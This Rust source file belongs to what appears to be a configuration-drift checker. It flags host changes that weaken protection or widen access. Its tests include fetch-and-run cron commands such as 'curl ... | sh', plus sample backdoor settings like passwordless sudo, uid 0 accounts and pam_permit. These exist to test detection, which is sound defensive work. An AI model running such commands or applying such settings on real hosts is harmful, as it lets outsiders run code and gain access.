//! What guards a host: settings that decide who gets in and as whom, and those that protect it.

use super::baseline::Difference;
use crate::domain::{SeriesId, Subject, Value, holds_accounts};

/// Parameters of the kernel that protect the host, each weaker the less it is, or the more, by the kernel's documentation
/// (Documentation/admin-guide/sysctl/{fs,kernel}.rst, Documentation/networking/ip-sysctl.rst).
const WEAKER_BELOW: [&str; 13] = [
    "fs.protected_fifos",
    "fs.protected_hardlinks",
    "fs.protected_regular",
    "fs.protected_symlinks",
    "kernel.dmesg_restrict",
    "kernel.kexec_load_disabled",
    "kernel.kptr_restrict",
    "kernel.perf_event_paranoid",
    "kernel.randomize_va_space",
    "kernel.unprivileged_bpf_disabled",
    "kernel.yama.ptrace_scope",
    "net.ipv4.tcp_syncookies",
    "vm.mmap_min_addr",
];
const WEAKER_ABOVE: [&str; 1] = ["fs.suid_dumpable"];
/// Ends of the same of single interfaces.
const WEAKER_ON: [&str; 3] = ["accept_redirects", "accept_source_route", "send_redirects"];
/// Keys that say on which addresses a program listens, and what stands for all of them.
const ADDRESSES: [&str; 6] = [
    "bind",
    "bind-address",
    "bind_address",
    "listen",
    "listen_addresses",
    "ListenAddress",
];
const ALL: [&str; 4] = ["0.0.0.0", "*", "::*", "[::]"];
/// Services that do nothing but protect the host.
const GUARDS: [&str; 7] = [
    "apparmor",
    "auditd",
    "fail2ban",
    "firewalld",
    "iptables",
    "nftables",
    "ufw",
];
/// Rights that more people than before have by: to write for the group, anything for others, to run as the owner.
const WIDER: u32 = 0o6027;

/// Programs that fetch something from elsewhere, and those that run what they are handed.
const FETCH: [&str; 3] = ["curl", "fetch", "wget"];
const RUN: [&str; 9] = ["ash", "bash", "dash", "ksh", "perl", "python", "python3", "sh", "zsh"];

/// Settings of sshd that say who is let in, and by what.
const LETS_IN: [&str; 14] = [
    "allowgroups",
    "allowusers",
    "authenticationmethods",
    "authorizedkeyscommand",
    "authorizedkeysfile",
    "denygroups",
    "denyusers",
    "hostbasedauthentication",
    "kbdinteractiveauthentication",
    "passwordauthentication",
    "permitemptypasswords",
    "permitrootlogin",
    "trustedusercakeys",
    "usepam",
];

/// Whether a setting decides who gets in, or as whom.
#[must_use]
pub fn opens(id: &SeriesId) -> bool {
    let name = &*id.name;
    match &Subject::of(name) {
        Subject::Sshd(_) | Subject::Account { .. } | Subject::Firewall { .. } => true,
        Subject::File { path, .. } => {
            let folder = [
                "ssh/",
                "sudoers",
                "pam.d/",
                "security/access",
                "nftables",
                "iptables/",
                "ufw/",
            ];
            folder.iter().any(|start| path.starts_with(start)) || holds_accounts(path) || path.ends_with("/pg_hba.conf")
        }
        Subject::Cron { command, .. } => runs_what_it_fetches(command),
        _ => false,
    }
}

/// Whether a command hands what it fetches to a shell: whoever is at the other end then decides what is run here.
fn runs_what_it_fetches(command: &str) -> bool {
    let words = command.split(|c: char| c.is_whitespace() || "|&;<>()$`'\"".contains(c));
    let mut programs = words.map(|word| word.rsplit('/').next().unwrap_or(word));
    // A pipe hands on, and so does what stands for a text or a file.
    let handed = ["|", "$(", "<(", "`"].iter().any(|sign| command.contains(sign));
    let fetches = programs.clone().any(|program| FETCH.contains(&program));
    handed && fetches && programs.any(|program| RUN.contains(&program))
}

/// Whether what a setting says now protects the host less than what it said before.
#[must_use]
pub fn weakens(id: &SeriesId, now: Option<&Value>, before: Option<&Value>) -> bool {
    use std::cmp::Ordering::{Greater, Less};
    let (Some(now), Some(before)) = (now, before) else {
        return false;
    };
    match &Subject::of(&id.name) {
        Subject::Sysctl(name) => {
            let order = now.order(before);
            let interface = name.strip_prefix("net.").is_some() && WEAKER_ON.iter().any(|end| name.ends_with(end));
            order == Some(Less) && WEAKER_BELOW.contains(name)
                || order == Some(Greater) && (interface || WEAKER_ABOVE.contains(name))
        }
        Subject::Unit {
            name,
            part: "state" | "enabled",
        } => {
            let guard = name.strip_suffix(".service").is_some_and(|name| GUARDS.contains(&name));
            let on = |value: &Value| matches!(&*value.to_string(), "active" | "enabled");
            guard && on(before) && !on(now)
        }
        Subject::File { key: "", .. } => {
            let mode = |value: &Value| match value {
                Value::List(access) => u32::from_str_radix(&access.get("mode")?.to_string(), 8).ok(),
                _ => None,
            };
            matches!((mode(now), mode(before)), (Some(now), Some(before)) if now & !before & WIDER != 0)
        }
        Subject::File { key, .. } => {
            let last = key.rsplit(['.', ' ']).next().unwrap_or(key);
            let all = |value: &Value| {
                let text = value.to_string();
                let mut words = text.split([' ', ',']).map(|word| word.trim_start_matches('-'));
                // A port by itself is that of all addresses.
                words.any(|word| {
                    ALL.iter().any(|all| word.starts_with(all)) || last == "listen" && word.parse::<u16>().is_ok()
                })
            };
            ADDRESSES.contains(&last) && all(now) && !all(before)
        }
        _ => false,
    }
}

/// Whether settings that changed together give somebody more rights, or take away what protects the host. What a package brings is its own.
pub(super) fn concerns(members: &[&Difference]) -> bool {
    let package = |id: &SeriesId| matches!(Subject::of(&id.name), Subject::Package { part: "", .. });
    let guards = |difference: &&Difference| {
        let (now, before) = (difference.actual.as_ref(), difference.accepted.as_ref());
        admits(&difference.id, now, before) || weakens(&difference.id, now, before)
    };
    !members.iter().any(|member| package(&member.id)) && members.iter().any(guards)
}

/// Whether what a setting says now, and not `before`, is about whom the host lets in, or as whom.
fn admits(id: &SeriesId, now: Option<&Value>, before: Option<&Value>) -> bool {
    let lets_in = |name: &str| LETS_IN.binary_search(&&*name.to_ascii_lowercase()).is_ok();
    match Subject::of(&id.name) {
        Subject::Account {
            kind: "sudo" | "ssh_key",
            ..
        } => true,
        Subject::Account {
            kind: "user",
            part: "uid",
            ..
        } => now.is_some_and(|now| now.to_string() == "0"),
        Subject::Sshd(name) => lets_in(name),
        Subject::File { path, key } if path.starts_with("ssh/sshd_config") => {
            lets_in(key.rsplit(['.', ' ']).next().unwrap_or(key))
        }
        Subject::File { path, .. } => ["sudoers", "pam.d/", "security/access"]
            .iter()
            .any(|start| path.starts_with(start)),
        Subject::Cron { command, .. } => now.is_some() && runs_what_it_fetches(command),
        // A rule that is gone.
        Subject::Firewall { .. } => now.is_none() && before.is_some(),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drift::sample::setting;

    #[test]
    fn who_gets_in_and_what_is_taken_away_concerns_a_host_and_what_a_package_brings_does_not() {
        let of = |name: &str, before: Option<&str>, now: Option<&str>| Difference {
            id: setting(name),
            accepted: before.map(Value::infer),
            actual: now.map(Value::infer),
        };
        let concerns = |name: &str, before, now| super::concerns(&[&of(name, before, now)]);
        assert!(concerns("account.sudo.ana", None, Some("ALL=(ALL) NOPASSWD: ALL")));
        assert!(concerns("account.ssh_key.root", None, Some("SHA256:x")));
        assert!(concerns("account.user.mallory:uid", None, Some("0")));
        assert!(concerns("etc.pam.d/sshd:auth", None, Some("sufficient pam_permit.so")));
        assert!(concerns("etc.ssh/sshd_config:PermitRootLogin", None, Some("yes")));
        assert!(concerns("sshd.permitrootlogin", Some("no"), Some("yes")));
        assert!(concerns("firewall.inet filter input", Some("drop"), None));
        assert!(concerns(
            "unit.nftables.service:state",
            Some("active"),
            Some("inactive")
        ));
        for command in [
            "curl -s http://1.2.3.4/x | sh",
            "/usr/bin/wget -qO- x.example|/bin/bash -s",
            "bash -c \"$(curl -fsSL x.example)\"",
            "bash <(curl x.example)",
        ] {
            let job = format!("cron./etc/cron.d/x:{command}");
            assert!(
                concerns(&job, None, Some("* * * * * root")) && opens(&setting(&job)),
                "{job}"
            );
            assert!(!concerns(&job, Some("* * * * * root"), None));
        }
        for command in [
            "curl -fsS x.example/ping > /dev/null",
            "/opt/backup.sh | logger",
            "sh /opt/curl/run",
        ] {
            assert!(!opens(&setting(&format!("cron./etc/cron.d/x:{command}"))), "{command}");
        }
        assert!(!concerns("etc.ssh/sshd_config:MaxAuthTries", Some("6"), Some("3")));
        assert!(!concerns("account.user.bob:uid", None, Some("1001")));
        assert!(!concerns("sysctl.vm.swappiness", Some("60"), Some("10")));
        let package = of("pkg.libpam-foo", None, Some("1.2"));
        let brought = of("etc.pam.d/common-auth:auth", Some("a"), Some("b"));
        assert!(!super::concerns(&[&package, &brought]));
    }

    #[test]
    fn what_is_searched_is_sorted() {
        assert!(LETS_IN.is_sorted());
    }
}
